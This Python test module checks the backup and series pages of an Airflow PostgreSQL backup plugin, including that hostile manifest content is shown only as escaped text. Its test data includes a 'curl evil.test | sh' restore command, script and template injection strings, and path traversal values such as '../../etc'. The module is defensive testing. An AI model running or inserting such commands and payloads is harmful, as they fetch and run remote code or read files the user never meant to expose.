"""The pages of a series and of a backup: what they say, and that they serve nothing but what the catalogue lists."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from html import unescape
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient
from honest import verification_of, write_backup, write_verification
from nights import night

from airflow_pgbackup.backup.pin import pin
from airflow_pgbackup.links import PAGE_PREFIX
from airflow_pgbackup.plugin import cache, details
from airflow_pgbackup.repository.base import Repository
from airflow_pgbackup.repository.layout import Series, VerificationName, backup_folder
from airflow_pgbackup.repository.manifest import Encryption, Manifest

Visitor = Callable[[str | None], TestClient]
NOW = datetime.now(timezone.utc).replace(microsecond=0)
HOUR, DAY = timedelta(hours=1), timedelta(days=1)
APP = Series("prod", "app")
HOSTILE = "<script>alert(1)</script>\u202e'\"../{{ 7*7 }}"


def get(visitor: Visitor, path: str, status: int = 200) -> str:
    answer = visitor("viewer").get(f"{PAGE_PREFIX}/{path}")
    assert answer.status_code == status, answer.text
    assert "Traceback" not in answer.text
    return answer.text


def words(html: str) -> str:
    return unescape(" ".join(re.sub(r"<[^>]*>", " ", html).split()))


@pytest.fixture(autouse=True)
def now(monkeypatch: pytest.MonkeyPatch) -> None:
    """Ages on the page grow after minutes, and this module may have been imported long ago."""
    monkeypatch.setitem(globals(), "NOW", datetime.now(timezone.utc).replace(microsecond=0))


def add(repository: Repository, age: timedelta, *looks: str, series: Series = APP) -> Manifest:
    return write_backup(repository, series, NOW - age, looks=looks, seed=f"{series}{age}")


def rewrite(root: Path, manifest: Manifest, **changes: object) -> None:
    """Overwrite a manifest, as somebody who owns the storage can."""
    path = root / backup_folder(manifest.series, manifest.id) / "manifest.json"
    path.write_bytes(replace(manifest, **changes).to_json())  # type: ignore[arg-type]


def series_path(series: Series = APP) -> str:
    return f"series?repository=0&series={quote(series.path, safe='')}"


def backup_path(manifest: Manifest) -> str:
    return f"backup?repository=0&series={quote(manifest.series.path, safe='')}&id={manifest.id}"


def test_a_series_over_time(visitor: Visitor, repository: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PGBACKUP_PAGE_RETENTION", '{"keep_last": 1, "keep_within": "36h", "replace_after": null}')
    made = [add(repository, number * DAY + HOUR, "archive-pass") for number in range(4)]
    pin(repository=repository, series=APP, id=made[3].id)
    page = get(visitor, series_path())
    text = words(page)
    assert "restorable verified at archive, 1 h old." in text
    rows = re.findall(r"<tr>\n<th scope=\"row\">.*?</tr>", page, re.DOTALL)
    assert [bool(re.search("<strong>keeps", row)) for row in rows] == [True, True, False, True]
    assert "pinned" in words(rows[3])
    assert "last 1/1" in words(rows[0])
    assert "5.0 s" in words(rows[0])
    assert "Rows: from 7 to 7" in text


def test_a_backup_that_failed_meanwhile_is_not_shown_as_verified(
    visitor: Visitor, repository: Repository, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    clock = [1000.0]
    monkeypatch.setattr(cache, "time", SimpleNamespace(monotonic=lambda: clock[0]))
    made = add(repository, HOUR, "archive-pass")
    assert 'class="lead good"' in get(visitor, backup_path(made))
    write_verification(repository, made, "archive", "fail", NOW)
    clock[0] += 120
    assert "This backup failed verification." in words(get(visitor, backup_path(made)))
    write_verification(repository, made, "archive", "pass", NOW + timedelta(seconds=1))
    clock[0] += 120
    page = get(visitor, backup_path(made))
    assert 'class="lead good"' in page
    assert "read at 20" in words(page)
    (tmp_path / "pg").rename(tmp_path / "unmounted")
    clock[0] += 7200
    page = get(visitor, backup_path(made))
    assert 'class="lead bad"' in page
    assert "may have failed a verification or been removed since it was read 2 h 0 min ago" in words(page)


def test_without_retention_the_page_says_so(visitor: Visitor, repository: Repository) -> None:
    add(repository, HOUR, "archive-pass")
    assert "retention unknown" in words(get(visitor, series_path()))


def test_a_long_series_is_bounded(visitor: Visitor, repository: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("airflow_pgbackup.backup.overview.one_series.MOST", 3)
    monkeypatch.setattr("airflow_pgbackup.backup.overview.one_series.READ", 2)
    for number in range(5):
        add(repository, number * DAY + HOUR, "archive-pass")
    text = words(get(visitor, series_path()))
    assert "5 backups , the newest 3 of them" in text or "5 backups, the newest 3 of them" in text
    assert text.count("as its file names say") == 1


def test_a_backup_with_its_history(visitor: Visitor, repository: Repository) -> None:
    first = add(repository, 25 * HOUR, "archive-pass")
    manifest = add(repository, HOUR, "archive-pass", "restore-pass")
    text = words(get(visitor, backup_path(manifest)))
    assert "This backup is verified at level restore." in text
    assert f"pgbackup restore {repository.uri} prod/app {manifest.id}" in text
    assert "into the empty database app of the server" in text
    assert f"Stored at {repository.uri}/prod/app/{manifest.id}/app.dump" in text
    assert "Choose a verified one" not in text
    assert "createdb --template template0 -- app_restored && pg_restore" in text
    assert "public.t 7 pass" in text
    assert f"Since the backup before {first.id}" in text
    assert "rows: 7 → 7" in text


@pytest.mark.parametrize(
    ("look", "says"),
    [
        ("archive-fail", "failed This backup failed verification"),
        ("archive-notproven", "not proven This backup could not be proven"),
        (None, "unverified This backup is not verified yet"),
    ],
)
def test_a_backup_that_does_not_count(visitor: Visitor, repository: Repository, look: str | None, says: str) -> None:
    manifest = add(repository, HOUR, *([look] if look else []))
    page = get(visitor, backup_path(manifest))
    assert says in words(page)
    assert 'class="lead bad"' in page
    assert "Choose a verified one from the list of its series" in words(page)
    assert "notproven" not in page


def test_the_command_for_an_encrypted_backup_names_the_key(visitor: Visitor, repository: Repository) -> None:
    plain = write_backup(repository, APP, NOW - HOUR, looks=(), members={"app.dump.age": b"12345"})
    encryption = Encryption("age", (f"age1{'q' * 58}",), (replace(plain.artifact.files[0], path="app.dump"),))
    artifact = replace(plain.artifact, encryption=encryption)
    key = f"{backup_folder(APP, plain.id)}/manifest.json"
    manifest = replace(plain, artifact=artifact)
    repository.delete([key])
    repository.write_bytes(key, manifest.to_json())
    text = words(get(visitor, backup_path(manifest)))
    assert f"pgbackup restore {repository.uri} prod/app {manifest.id} --identity key.txt" in text
    assert "age --decrypt --identity key.txt" in text


def test_a_long_history_is_shortened_and_no_page_is_made_in_the_event_loop(
    visitor: Visitor, repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    manifest = add(repository, HOUR)
    for minute in range(22):
        write_verification(repository, manifest, "archive", "pass", NOW - timedelta(minutes=minute))
    in_loop: list[bool] = []

    def note(*arguments: Any, **options: Any) -> Any:
        in_loop.append(asyncio._get_running_loop() is not None)
        return render(*arguments, **options)

    render = details.render
    monkeypatch.setattr(details, "render", note)
    get(visitor, series_path())
    assert words(get(visitor, backup_path(manifest))).count("Its checks and findings are in its file.") == 2
    assert in_loop == [False, False]


def test_rows_stay_in_view_when_a_later_verification_counted_none(visitor: Visitor, repository: Repository) -> None:
    manifest = add(repository, 2 * HOUR, "archive-pass")
    empty = replace(verification_of(manifest, "integrity", "pass", NOW - HOUR), tables=())
    name = VerificationName(NOW - HOUR, "integrity", "pass").file
    repository.write_bytes(f"{backup_folder(APP, manifest.id)}/{name}", empty.to_json())
    assert "public.t 7 pass" in words(get(visitor, backup_path(manifest)))


def test_the_set_and_the_dag_run_that_made_it(visitor: Visitor, repository: Repository, tmp_path: Path) -> None:
    made = night(repository, 1, "app")
    (member,) = made.databases
    path = tmp_path / "pg" / backup_folder(APP, member.id) / "manifest.json"
    manifest = Manifest.from_json(path.read_bytes())
    origin = {
        "dag_id": "nightly",
        "run_id": "scheduled__2026-11-27T02:00:00+00:00",
        "task_id": "a.dump",
        "map_index": 3,
    }
    rewrite(tmp_path / "pg", manifest, origin=origin)
    page = get(visitor, backup_path(manifest))
    assert made.id in page
    link = "../dags/nightly/runs/scheduled__2026-11-27T02%3A00%3A00%2B00%3A00/tasks/a.dump/mapped/3"
    assert f'href="{link}" data-airflow' in page


@pytest.mark.parametrize(
    ("origin", "link"),
    [
        ({}, None),
        ({"dag_id": "../../evil", "run_id": "x"}, None),
        ({"dag_id": "..", "run_id": "x"}, None),
        ({"dag_id": "javascript:alert(1)", "run_id": "x"}, None),
        ({"dag_id": ["a"], "run_id": "x"}, None),
        ({"dag_id": "a", "run_id": ".."}, "../dags/a"),
        ({"dag_id": "a", "run_id": "x\ud800"}, "../dags/a"),
        ({"dag_id": "täglich", "run_id": "x"}, "../dags/t%C3%A4glich/runs/x"),
        ({"dag_id": "a", "run_id": "//evil.test/x"}, "../dags/a/runs/%2F%2Fevil.test%2Fx"),
        ({"dag_id": "a", "run_id": 'x"onclick=', "task_id": "../t"}, "../dags/a/runs/x%22onclick%3D"),
        ({"dag_id": "a", "run_id": "x", "task_id": "t", "map_index": True}, "../dags/a/runs/x/tasks/t"),
    ],
)
def test_links_from_a_manifest_stay_on_airflow(origin: dict[str, object], link: str | None) -> None:
    assert details.run_link(origin) == link


def test_a_dropped_database_is_called_so_on_its_page_too(
    visitor: Visitor, repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PGBACKUP_PAGE_RETENTION", '{"keep_last": 1}')
    for number in (4, 3):
        night(repository, number, "app", "old")
    for number in (2, 1):
        night(repository, number, "app")
    page = words(get(visitor, series_path(Series("prod", "old"))))
    assert "dropped the database is not on its server any more" in page
    # What the first view says is what the page of the series says.
    assert page.count("deletes") == 1
    row = next(row for row in get(visitor, "").split("<tr") if "/</span>old</a>" in row)
    assert "1 of 2 expires" in words(row)


def test_hostile_manifests_are_text(visitor: Visitor, repository: Repository, tmp_path: Path) -> None:
    manifest = add(repository, HOUR, "archive-pass")
    rewrite(
        tmp_path / "pg",
        manifest,
        labels=(HOSTILE, "x" * 10_000),
        origin={"dag_id": HOSTILE, "run_id": HOSTILE},
        restore_command="curl evil.test | sh",
        source=replace(manifest.source, server_version=HOSTILE),
        client=replace(manifest.client, version=HOSTILE),
    )
    for path in (backup_path(manifest), series_path()):
        page = get(visitor, path)
        assert "<script>alert" not in page
        assert "\u202e" not in page
        assert ">49<" not in page
        assert "evil.test" not in page
        assert len(page) < 30_000
        assert not re.search(
            r"<script(?! src=\"static/backups\.js\"></script>)|<style|style=|\son\w+=\"|javascript:", page
        )


@pytest.mark.parametrize("data", [b"", b"{", b'{"format_version": "9.0"}', b"x" * 10_000])
def test_a_manifest_that_cannot_be_read(visitor: Visitor, repository: Repository, tmp_path: Path, data: bytes) -> None:
    manifest = add(repository, HOUR, "archive-pass")
    (tmp_path / "pg" / backup_folder(APP, manifest.id) / "manifest.json").write_bytes(data)
    text = words(get(visitor, backup_path(manifest)))
    assert "cannot be read" in text or "is incomplete" in text
    assert "With PostgreSQL's own tools" not in text


def test_nothing_is_served_but_what_the_catalogue_lists(
    visitor: Visitor, repository: Repository, tmp_path: Path
) -> None:
    manifest = add(repository, HOUR, "archive-pass")
    (tmp_path / "secret.txt").write_text("canary-in-a-file")
    good = {"repository": "0", "series": APP.path, "id": manifest.id}
    bad: list[dict[str, str]] = [
        {"repository": "1"},
        {"repository": "-1"},
        {"repository": "file:///etc"},
        {"repository": ""},
        {"series": "prod/other"},
        {"series": "../../etc"},
        {"series": "prod/.."},
        {"series": "prod"},
        {"series": ""},
        {"series": "x" * 5000},
        {"series": "prod/\udcff".encode("utf-8", "surrogateescape").decode("latin-1")},
        {"id": "20261127T020000Z-000000"},
        {"id": "../../secret.txt"},
        {"id": ""},
        {"id": "manifest.json"},
    ]
    for change in bad:
        query = "&".join(f"{name}={quote(value, safe='')}" for name, value in {**good, **change}.items())
        for page in ("backup", "series") if "id" not in change else ("backup",):
            text = get(visitor, f"{page}?{query}", 404)
            assert "Not found" in text
            assert "canary" not in text


def test_parameters_that_are_missing_or_given_twice(visitor: Visitor, repository: Repository) -> None:
    for path in ("series", "backup", "series?series=a&series=b", "backup?id=1&repository=0&repository=1"):
        assert "Not found" in get(visitor, path, 404)


def test_no_password_in_any_page(visitor: Visitor, repository: Repository, canary: str, tmp_path: Path) -> None:
    manifest = add(repository, HOUR, "archive-pass")
    rewrite(tmp_path / "pg", manifest, options={"extra_args": [f"--dbname=postgres://u:{canary}@h/d"]})
    for path in ("", series_path(), backup_path(manifest)):
        assert canary not in get(visitor, path)
